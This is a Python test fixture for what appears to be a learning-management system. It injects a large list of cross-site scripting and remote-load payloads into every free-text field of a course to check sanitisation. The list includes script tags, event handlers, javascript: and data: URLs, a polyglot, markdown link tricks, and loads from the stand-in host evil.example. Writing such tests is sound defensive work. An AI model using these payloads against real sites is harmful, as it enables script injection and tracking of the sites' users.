"""What a hostile author writes: texts that want to run a script, or to make the reader's browser call somebody else."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

from lms.catalogue.checks import Checked
from lms.catalogue.checks.units import parse_units
from lms.catalogue.files.canonical import canonical_files
from lms.catalogue.files.read import read_files
from lms.catalogue.files.schemas import Schema, inside, resolve, schema
from lms.catalogue.rules.course_files import CourseFiles, ModuleFile, UnitFile
from lms.plugins.unit_kind import UnitKind

RUN = "window.ran=1"
AWAY = "https://evil.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/pixel.gif>",
    f'<img src="x" srcset="{AWAY}/set.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    f'<svg><animate attributeName="href" values="javascript:{RUN}" begin="0s"/></svg>',
    f'<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg><svg><image href="{AWAY}/i.svg"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={AWAY}/o></object><embed src={AWAY}/e>",
    f"<body onload={RUN}>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}/meta">',
    f'<base href="{AWAY}/">',
    f'<link rel=stylesheet href="{AWAY}/x.css">',
    f'<link rel=prefetch href="{AWAY}/p"><link rel=dns-prefetch href="//evil.example">',
    f"<style>@import '{AWAY}/i.css';*{{background:url({AWAY}/bg)}}</style>",
    f'<p style="background:url({AWAY}/style)">styled</p>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src={AWAY}/v autoplay onerror={RUN}></video><audio src={AWAY}/a autoplay></audio>",
    f"<form action={AWAY}/form><button>Send</button></form>",
    f"<button formaction=javascript:{RUN} popovertarget=x>x</button>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="java\nscript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/protocol-relative)",
    f"[x](https://example.org \"' onmouseover='{RUN}\")",
    f"![x]({AWAY}/markdown.png)",
    f"![x](javascript:{RUN})",
    f"![x\" onerror=\"{RUN}](media/x)",
    f'[x]: javascript:{RUN}\n\n[x]',
    f"<{AWAY}/autolink> <javascript:{RUN}>",
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"## x {{#a\" onclick=\"{RUN}\"}}",
    f"[[state|<img src=x onerror={RUN}>]] [@S001 <svg onload={RUN}>]",
    f"{{{{figure: x\"><script>{RUN}</script>}}}}",
    f"\"><script>{RUN}</script>'><img src=x onerror={RUN}>",
    f"'-{RUN}-'\";{RUN}//`${{{RUN}}}`{{{{{RUN}}}}}{{% {RUN} %}}",
    f"</title></textarea></style></noscript></template></script><script>{RUN}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"--><!-- ><img src=x onerror={RUN}> -->]]><![CDATA[<script>{RUN}</script>]]>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
)  # fmt: skip

# Fields that are names for machines: what they may hold is fixed by their schema, or they join files together.
FIXED = frozenset(
    {"key", "id", "slug", "kind", "use", "module", "cites", "passage", "substance", "follows", "language"}
)
Fields = Mapping[str, Any]


def hostile_course(files: Mapping[str, str], kinds: Mapping[str, UnitKind]) -> Checked:
    """The course with every payload in every text that an author writes freely, as if no check had refused it."""
    course = read_files({path: text.encode() for path, text in files.items()}, kinds, lenient=True).course
    assert course is not None
    spoilt = CourseFiles(
        fields=_spoilt(course.fields, schema("course")),
        modules=tuple(_module(module, kinds) for module in course.modules),
        terms=tuple(_spoilt({"terms": list(course.terms)}, schema("glossary"))["terms"]),
        sources=tuple(_spoilt({"sources": list(course.sources)}, schema("sources"))["sources"]),
        media=course.media,
    )
    written = canonical_files(spoilt, kinds)
    again = read_files({path: text.encode() for path, text in written.items()}, kinds, lenient=True)
    assert again.course is not None
    return Checked(again.course, written, [], [], parse_units(again, again.course, kinds))


def _module(module: ModuleFile, kinds: Mapping[str, UnitKind]) -> ModuleFile:
    of = {unit.key: kinds[unit.kind].schema for unit in module.units}
    return ModuleFile(
        module.folder,
        _spoilt(module.fields, schema("module")),
        tuple(_unit(unit, of[unit.key]) for unit in module.units),
        tuple(_unit(unit, of[unit.key]) for unit in module.translations),
    )


def _unit(unit: UnitFile, of: Schema) -> UnitFile:
    body = "\n\n".join([unit.body, *PAYLOADS]) if unit.body else ""
    return replace(unit, front=_spoilt(unit.front, of), body=body)


def _spoilt(value: Any, of: Schema, name: str | int = "") -> Any:
    if name in FIXED:
        return value
    if isinstance(value, Mapping):
        return {key: _spoilt(part, inside(of, key, value), key) for key, part in value.items()}
    if isinstance(value, list):
        return [_spoilt(part, inside(of, index, value), name) for index, part in enumerate(value)]
    free = isinstance(value, str) and not {"enum", "const", "pattern"} & set(resolve(of))
    return " ".join([value, *PAYLOADS]) if free else value
